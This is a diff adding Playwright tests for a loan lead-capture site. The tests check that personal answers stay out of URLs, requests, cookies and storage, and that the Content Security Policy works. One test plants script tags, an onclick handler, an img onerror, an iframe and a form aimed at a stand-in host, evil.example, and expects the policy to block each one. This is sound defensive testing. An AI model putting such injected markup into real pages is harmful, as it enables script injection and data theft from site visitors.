@@ -1,0 +1,214 @@
+import { business } from '../../../src/config/business';
+import { paths } from '../../../src/config/paths';
+import { landingWords } from '../../../src/content/landing';
+import { fieldWords } from '../../../src/content/leadForm';
+import { reviewFormWords } from '../../../src/content/reviewForm';
+import { toastWords } from '../../../src/content/toasts';
+import { storageKey } from '../../../src/features/leadWizard/savedLead';
+import { carla, lastStep, steps } from '../application';
+import {
+  answerStep,
+  everythingStored,
+  live,
+  nextButton,
+  open,
+  openAt,
+  stepHeading,
+  submitButton,
+  thanks,
+} from './application';
+import { expect, test } from './fixtures';
+
+/** Answers that nobody could mistake for anything else. */
+const secrets = [
+  carla.vehicleModel.trim(),
+  carla.currentLoanBalance,
+  carla.firstName,
+  carla.lastName,
+  carla.email,
+  carla.phone,
+  carla.employmentStatus,
+];
+
+test.describe('what is personal', () => {
+  test('is in no address, title, history, request or log but the one of the acceptance, and in no cookie', async ({
+    visit,
+  }) => {
+    const { page, logged } = await visit();
+    const seen: string[] = [];
+    page.on('request', (request) => {
+      seen.push(request.url(), request.postData() ?? '', JSON.stringify(request.headers()));
+    });
+    await page.goto(paths.leadCapture);
+    const look = async () =>
+      seen.push(
+        page.url(),
+        await page.title(),
+        JSON.stringify(await page.evaluate(() => [history.state as unknown, document.cookie, window.name])),
+      );
+    for (const step of steps) {
+      await answerStep(page, step);
+      await look();
+      if (step < lastStep) await nextButton(page).click();
+    }
+    expect(logged()).toEqual([]);
+    await submitButton(page).click();
+    await look();
+    await thanks(page).waitFor();
+    await look();
+    for (const secret of secrets) {
+      const places = seen.filter(
+        (text) => text.includes(secret) || text.includes(encodeURIComponent(secret)),
+      );
+      expect([secret, places]).toEqual([secret, []]);
+    }
+    expect(logged()).toEqual([carla]);
+    expect(await everythingStored(page)).toEqual({ session: {}, local: {} });
+    const kept = await page.evaluate(async () => ({
+      databases: await indexedDB.databases(),
+      caches: await caches.keys(),
+      workers: (await navigator.serviceWorker.getRegistrations()).length,
+    }));
+    expect(kept).toEqual({ databases: [], caches: [], workers: 0 });
+  });
+
+  test('is kept in this tab alone while it is typed', async ({ visit }) => {
+    const { page } = await visit();
+    await openAt(page, lastStep);
+    const { session, local } = await everythingStored(page);
+    expect(Object.keys(session)).toEqual([storageKey]);
+    expect(local).toEqual({});
+    expect(await page.evaluate(() => indexedDB.databases())).toEqual([]);
+  });
+
+  test('travels as an estimate to the form in memory, not in the address', async ({ visit, baseURL }) => {
+    const { page } = await visit();
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await open(page, paths.home);
+    await page.getByLabel(landingWords.estimate.fields.balance, { exact: true }).fill('31337');
+    await page.getByRole('button', { name: landingWords.estimate.use }).click();
+    await stepHeading(page, 1).waitFor();
+    expect(page.url()).toBe(`${baseURL ?? ''}${paths.leadCapture}`);
+    expect(asked.filter((url) => url.includes('31337'))).toEqual([]);
+    for (let step = 1; step < 4; step += 1) {
+      await stepHeading(page, step).waitFor();
+      await nextButton(page).click();
+    }
+    await stepHeading(page, 4).waitFor();
+    await expect(page.getByLabel(fieldWords.currentLoanBalance.label)).toHaveValue('31337');
+    const payment = Number(await page.getByLabel(fieldWords.monthlyPayment.label).inputValue());
+    expect(payment).toBeGreaterThan(31_337 / business.loan.maxTerm);
+  });
+});
+
+test.describe('the policy', () => {
+  test('lets toasts be styled: each is a card in sight, at its place', async ({ visit }) => {
+    const { page } = await visit({ reducedMotion: 'reduce' });
+    await page.goto(paths.leaveReview);
+    await live(page);
+    await page.getByRole('button', { name: reviewFormWords.submit }).click();
+    const container = page.locator('.notistack-SnackbarContainer');
+    const title = container.getByText(toastWords.ratingMissing.title);
+    await expect(title).toBeInViewport();
+    await expect(container).toHaveCSS('position', 'fixed');
+    expect(Number(await container.evaluate((one) => getComputedStyle(one).zIndex))).toBeGreaterThan(1000);
+    // Its color, rounding and weight come from inserted rules; without them the card is bare text.
+    const hasCard = () =>
+      title.evaluate((one) => {
+        for (let at: Element | null = one; at && at !== document.body; at = at.parentElement) {
+          const { borderRadius, backgroundColor } = getComputedStyle(at);
+          if (borderRadius !== '0px' && backgroundColor !== 'rgba(0, 0, 0, 0)') return true;
+        }
+        return false;
+      });
+    await expect.poll(hasCard).toBe(true);
+    expect(Number(await title.evaluate((one) => getComputedStyle(one).fontWeight))).toBeGreaterThan(500);
+  });
+
+  test('bars what somebody put into the page: scripts, a handler, a style, an image, a frame, a form', async ({
+    visit,
+  }) => {
+    const visitor = await visit();
+    visitor.expectTrouble(/Policy violated|Content Security Policy/, /lost request|third-party/);
+    const { page } = visitor;
+    const hit = "document.title='hit'";
+    // Were one of these let through, the title would tell.
+    await page.route('https://evil.example/**', (route) =>
+      route.fulfill({ contentType: 'text/javascript', body: hit }),
+    );
+    await page.route(`**${paths.leadCapture}`, async (route) => {
+      const answer = await route.fetch();
+      const html = await answer.text();
+      const planted = `<script>${hit}</script><script src="https://evil.example/x.js"></script>
+<button id="planted" onclick="${hit}" style="position:fixed;top:0">x</button>
+<img src="https://evil.example/x.png" onerror="${hit}" alt=""><iframe src="https://evil.example/"></iframe>
+<form id="away" action="https://evil.example/"><input name="a"></form><base href="https://evil.example/">`;
+      await route.fulfill({ response: answer, body: html.replace('</body>', `${planted}</body>`) });
+    });
+    await page.addInitScript(() => {
+      const barred: string[] = [];
+      Object.assign(window, { barred });
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        barred.push(effectiveDirective);
+      });
+    });
+    await page.goto(paths.leadCapture);
+    await live(page);
+    await page.evaluate(() => {
+      document.getElementById('planted')?.click();
+      (document.getElementById('away') as HTMLFormElement | null)?.submit();
+    });
+    const barred = () =>
+      page.evaluate(() => [...new Set((window as unknown as { barred: string[] }).barred)].sort());
+    await expect
+      .poll(barred)
+      .toEqual([
+        'base-uri',
+        'form-action',
+        'frame-src',
+        'img-src',
+        'script-src-attr',
+        'script-src-elem',
+        'style-src-attr',
+      ]);
+    expect(await page.title()).not.toBe('hit');
+    expect(page.url()).toContain(paths.leadCapture);
+  });
+
+  test('lets no text become code or markup', async ({ visit }) => {
+    const visitor = await visit();
+    visitor.expectTrouble(/Policy violated|Content Security Policy|TrustedHTML|TrustedScript/);
+    const { page } = visitor;
+    await page.goto(paths.leadCapture);
+    await live(page);
+    const outcome = await page.evaluate(
+      () =>
+        // Out of the debugger's own task, which is free of the policy.
+        new Promise<string[]>((settle) => {
+          setTimeout(() => {
+            const attempt = (work: () => void) => {
+              try {
+                work();
+                return 'went through';
+              } catch (error) {
+                return error instanceof TypeError || error instanceof EvalError ? 'barred' : String(error);
+              }
+            };
+            const element = document.createElement('div');
+            settle([
+              attempt(() => (element.textContent = '<b></b>')),
+              attempt(() => (element.innerHTML = '<b></b>')),
+              attempt(() => {
+                document.createElement('script').src = 'https://evil.example/x.js';
+              }),
+              attempt(() => {
+                (globalThis.Function as unknown as (code: string) => unknown)('return 1');
+              }),
+            ]);
+          });
+        }),
+    );
+    expect(outcome).toEqual(['went through', 'barred', 'barred', 'barred']);
+  });
+});
